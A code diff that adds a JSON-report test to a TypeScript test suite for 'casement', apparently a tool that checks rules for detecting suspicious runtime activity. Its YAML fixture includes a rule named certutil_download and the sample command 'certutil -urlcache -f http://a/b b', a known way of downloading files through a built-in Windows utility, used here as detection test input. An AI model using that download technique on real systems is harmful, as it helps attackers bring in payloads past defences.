@@ -1,5 +1,5 @@
 // What the verbs print of the demo recording and of the corpus, held against the schemas.
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { Ledger, type LedgerJson } from '@casement/engine';
 import { RuntimeEvent } from '@casement/telemetry';
@@ -14,6 +14,7 @@ const runtimeEvent = new FormJudge('runtime-event');
 const finding = new FormJudge('finding');
 const ledger = new FormJudge('ledger');
 const loadReport = new FormJudge('load-report');
+const testReport = new FormJudge('test-report');
 
 useBuiltCommand();
 const at = useFolder();
@@ -75,6 +76,34 @@ describe('check --json', () => {
     const reports = parsed(casement(['check', pack, '--json']).out);
     expect(reports).toHaveLength(1);
     expect(faultsOf(loadReport, reports)).toEqual([]);
+  });
+});
+
+describe('test --json', () => {
+  it('prints a report of tests that pass, fail and cannot be run, with coverage and mutants', () => {
+    const folder = join(import.meta.dirname, '../../../../packs/windows');
+    writeFileSync(
+      at('mixed.test.yaml'),
+      `policies: ${folder}
+tests:
+  - {rule: certutil_download, exec: {path: 'C:\\\\certutil.exe'}, match: [certutil -urlcache -f http://a/b b, certutil -dump]}
+  - {name: t, match: certutil_download, limited: [certutil_download], steps: [{create: {path: 'C:\\\\a'}, expect: []}]}
+`.replaceAll('\\\\', '\\'),
+    );
+    writeFileSync(at('broken.test.yaml'), `policies: ${folder}\ntests: [{rule: x, exec: {}, match: [y]}]\n`);
+    const { out } = casement([
+      'test',
+      at('mixed.test.yaml'),
+      at('broken.test.yaml'),
+      '--json',
+      '--coverage',
+      '--mutate',
+      '--mutants-per-rule',
+      '3',
+    ]);
+    const [report] = parsed(out) as Record<'passed' | 'failed' | 'broken', number>[];
+    expect([report!.passed, report!.failed, report!.broken]).toEqual([1, 2, 1]);
+    expect(faultsOf(testReport, [report])).toEqual([]);
   });
 });
 
